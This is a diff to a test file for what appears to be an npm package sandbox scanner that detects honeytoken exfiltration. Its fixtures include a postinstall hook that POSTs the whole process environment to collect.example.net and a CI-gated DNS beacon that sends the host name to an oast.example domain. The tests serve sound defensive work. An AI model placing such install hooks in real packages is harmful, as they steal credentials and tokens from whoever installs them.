@@ -187,6 +187,14 @@ req.end(Buffer.from(rc).toString('base64'))`,
     expect(findings.signals.find((s) => s.rule === 'sandbox-honeytoken-egress')!.message).toMatch(/npm token .*collect\.example\.net/)
   })
 
+  it('sees what fetch() sends: WebAssembly (undici\'s HTTP parser) works under the memory limit', { timeout: 60_000 }, async () => {
+    const { findings } = await npmRun(
+      { 'send.js': `fetch('https://collect.example.net/f', { method: 'POST', body: JSON.stringify(process.env) }).then((r) => r.text(), () => process.exit(5))` },
+      { postinstall: 'node send.js' },
+    )
+    expect(findings.signals.find((s) => s.rule === 'sandbox-honeytoken-egress')?.message).toMatch(/npm token .*POST https:\/\/collect\.example\.net\/f/)
+  })
+
   it('catches the host name sent over DNS, only where the payload gates on CI', { timeout: 90_000 }, async () => {
     const { findings } = await npmRun(
       { 'beacon.js': `if (process.env.CI) require('dns').lookup(require('os').hostname() + '.b.oast.example', () => {})` },
